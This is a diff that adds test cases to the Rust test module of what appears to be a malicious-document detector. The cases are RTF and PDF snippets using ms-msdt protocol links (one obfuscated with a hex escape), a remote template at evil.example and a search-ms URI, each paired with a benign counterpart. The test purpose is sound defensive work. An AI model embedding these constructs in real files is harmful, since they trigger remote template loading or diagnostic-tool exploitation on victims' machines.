@@ -302,6 +302,27 @@ mod tests {
             ),
             (
                 "msdt",
+                ("a.rtf", text("{\\rtf1{\\*\\hl{\\hlloc x}{\\hlsrc ms-\\'6dsdt:/id x}}}")),
+                ("a.rtf", text("{\\rtf1{\\*\\hl{\\hlsrc https://a.example/}} ms-msdt:/id x}")),
+            ),
+            (
+                "remote-template",
+                ("a.rtf", text("{\\rtf1{\\*\\template Normal.dotm}{\\*\\template http://evil.example/a}}")),
+                ("a.rtf", text("{\\rtf1{\\*\\template Normal.dotm}{\\*\\hl{\\hlsrc http://a.example/}}}")),
+            ),
+            (
+                "remote-object",
+                ("a.rtf", text("{\\rtf1{\\*\\hl{\\hlsrc search-ms:query=x&crumb=location:y}}}")),
+                (
+                    "a.rtf",
+                    text(
+                        "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"C:\\\\a.docx\"}{\\fldrslt https://a.example}}\
+                         {\\field{\\*\\fldinst HYPERLINK \"https://a.example\"}}}",
+                    ),
+                ),
+            ),
+            (
+                "msdt",
                 ("a.pdf", text("%PDF-1.4 <</S/URI/URI(ms-msdt:/id x)>>")),
                 ("a.pdf", text("%PDF-1.4 (ms-msdt:/id x) Tj")),
             ),
